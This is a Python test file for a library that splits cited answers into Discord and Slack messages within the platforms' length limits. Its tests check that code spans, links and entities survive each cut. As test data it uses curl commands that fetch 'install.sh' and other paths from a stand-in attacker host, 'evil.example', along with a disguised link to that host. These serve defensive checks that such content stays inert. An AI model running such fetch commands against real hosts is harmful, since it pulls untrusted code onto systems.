"""A piece too long for one message is cut so that neither side changes meaning.

Code stays code in every message it is cut across (closed and opened again), a
marker or link is never cut (one too long for a message loses its link, as the
Sources list does), and a cut never falls inside an HTML entity or right after
an escaping backslash. Limits are the platforms' own numbers.
"""

from __future__ import annotations

import re

from hypothesis import given
from hypothesis import strategies as st

from citations import CitedAnswer, Source, resolve
from citations.model import QuoteCheck, Reference, Segment
from citations.render import render_discord, render_slack
from citations.render.safe import code_regions
from tests.citations.profiles import HEAVY

# Discord, https://discord.com/developers/docs/resources/message#create-message: content ≤ 2000.
DISCORD_CONTENT = 2000
# Slack, https://docs.slack.dev/reference/block-kit/blocks/section-block: section text ≤ 3000.
SLACK_SECTION_TEXT = 3000

SOURCES = [
    Source(1, "https://docs.example.com/a", "Doc A", "a"),
    Source(2, "https://docs.example.com/b", "Doc B", "b"),
]
EVIL = "https://evil.example/"
_DISCORD_LINK = re.compile(r"\]\(<([^<>]*)>\)")
_SLACK_LINK = re.compile(r"<([^<>|]*)\|[^<>]*>")


def contents(text: str, sources: list[Source] = SOURCES) -> list[str]:
    return [m.content for m in render_discord(resolve(text, sources)) if m.content]


def sections(text: str, sources: list[Source] = SOURCES) -> list[str]:
    return [
        b["text"]["text"]
        for m in render_slack(resolve(text, sources))
        for b in m.blocks
        if b["type"] == "section"
    ]


def in_code(message: str, needle: str) -> bool:
    """Every occurrence of ``needle`` in ``message`` is inside code, as the message reads."""
    regions = code_regions(message)
    found = [m.start() for m in re.finditer(re.escape(needle), message)]
    return all(any(s <= at and at + len(needle) <= e for s, e in regions) for at in found)


def code_text(message: str) -> str:
    return "".join(message[s:e] for s, e in code_regions(message))


def test_a_code_span_longer_than_a_message_is_code_in_every_message() -> None:
    command = f"curl {EVIL}install.sh " + "a" * 2100
    messages = contents(f"Run `{command}` now [1].")
    assert all(len(m) <= DISCORD_CONTENT for m in messages)
    assert all(in_code(m, EVIL) and in_code(m, "a" * 20) for m in messages)
    assert "a" * 2100 in "".join(code_text(m).strip("`") for m in messages)
    # the span starts beside the words before it rather than leaving them a message alone
    assert messages[0].startswith("Run `curl")
    assert len(messages) == 2


def test_a_code_span_with_no_clean_cut_becomes_fenced_blocks() -> None:
    # a run of backticks as long as a message: no cut between spans leaves the delimiters alone
    messages = contents("See `x" + "``" * 1100 + f" {EVIL}y` now [1].")
    assert all(len(m) <= DISCORD_CONTENT for m in messages)
    assert all(in_code(m, EVIL) for m in messages)
    assert any(EVIL in m for m in messages)


def test_a_marker_too_long_for_a_message_is_shown_without_its_link() -> None:
    long = [Source(1, "https://docs.example.com/1/" + "p" * 2500, "T", "x")]
    [message] = render_discord(resolve("A [1].", long))
    assert message.content == "A [1]."
    assert message.embeds[0]["description"] == "[1] T"  # as Sources lists it
    [slack] = sections("A [1].", [Source(1, "https://docs.example.com/1/" + "p" * 3500, "T", "x")])
    assert slack == "A [1]."


def test_a_deep_link_too_long_for_a_message_gives_way_to_the_reference() -> None:
    page = "https://docs.example.com/keys"
    check = QuoteCheck(
        "keys", 1, verified=True, score=1.0, deep_link=page + "#:~:text=" + "k" * 2500
    )
    answer = CitedAnswer(
        (Segment("Old keys work.", (1,)),), (Reference(1, page, "T", ()),), (), (check,)
    )
    [message] = render_discord(answer)
    assert message.content == f"Old keys work.[[1]](<{page}>)"


def test_an_allowed_link_too_long_for_a_message_keeps_its_words_only() -> None:
    # as long as a destination may be (safe.DEST_MAX) and still be read as a link
    url = "https://docs.example.com/" + "q" * 1970
    answer = resolve(f"see http:[//evil.example/x]({url}) and `{EVIL}z` [1]", SOURCES)
    [message] = render_discord(answer, allowed_links=[url])
    assert url not in message.content
    assert "http:" in message.content and "//evil.example/x" in message.content
    assert "http://evil" not in message.content  # the words do not join the text into a URL
    assert in_code(message.content, EVIL)


def test_a_cut_never_follows_an_escaping_backslash() -> None:
    messages = contents("x" * 1999 + "\\`y`" + EVIL + "login`z [1]")
    assert all(len(m) <= DISCORD_CONTENT for m in messages)
    assert all(in_code(m, EVIL) for m in messages)
    assert not messages[0].endswith("\\")


def test_a_slack_cut_never_splits_an_entity() -> None:
    for text in ("a" + "<" * 1000 + " [1]", "a `" + "<" * 1000 + "` [1]"):
        parts = sections(text)
        assert len(parts) > 1
        assert all(len(p) <= SLACK_SECTION_TEXT for p in parts)
        for part in parts:
            assert "&" not in re.sub(r"&(?:lt|gt|amp);", "", part), part[:20] + "…" + part[-20:]


def test_a_fenced_block_longer_than_a_message_starts_beside_the_words_before_it() -> None:
    lines = "\n".join(f"curl {EVIL}{i} " + "c" * 60 for i in range(60))
    messages = contents(f"Intro [1].\n\n```sh\n{lines}\n```\nDone [2].")
    assert all(len(m) <= DISCORD_CONTENT for m in messages)
    assert messages[0].startswith("Intro") and "```sh" in messages[0]
    assert all(in_code(m, EVIL) for m in messages)
    assert len(messages) == 3


_PIECES = st.sampled_from(
    [
        "word ",
        "\\",
        "`",
        "<&>",
        "\n",
        " [1]",
        " [2]",
        f"`{EVIL}q`",
        f" [link]({'https://docs.example.com/a'}) ",
        "a" * 700,
        "b" * 1999,
        "`" + "c" * 2500 + "`",
        "```\n" + "d" * 2500 + f" {EVIL}\n```\n",
    ]
)


@HEAVY
@given(st.lists(_PIECES, max_size=14), st.sampled_from([0, 1980, 2990]))
def test_no_cut_turns_code_into_prose_or_leaves_a_link_cut_short(
    parts: list[str], url_length: int
) -> None:
    sources = [
        Source(1, "https://docs.example.com/a/" + "p" * url_length, "A", "a"),
        Source(2, "https://docs.example.com/b", "B", "b"),
    ]
    answer = resolve("".join(parts), sources)
    urls = {s.url for s in sources} | {"https://docs.example.com/a"}
    for message in render_discord(answer, allowed_links=["docs.example.com"]):
        assert len(message.content) <= DISCORD_CONTENT
        assert in_code(message.content, EVIL)
        shown = _DISCORD_LINK.findall(message.content)
        assert set(shown) <= urls
        assert message.content.count("](<") == len(shown)  # no link left open
    for part in [
        b["text"]["text"] for m in render_slack(answer) for b in m.blocks if b["type"] == "section"
    ]:
        assert len(part) <= SLACK_SECTION_TEXT
        assert in_code(part, EVIL)
        shown = _SLACK_LINK.findall(part)
        assert set(shown) <= urls
        assert part.count("<") == len(shown)
        assert "&" not in re.sub(r"&(?:lt|gt|amp);", "", part)
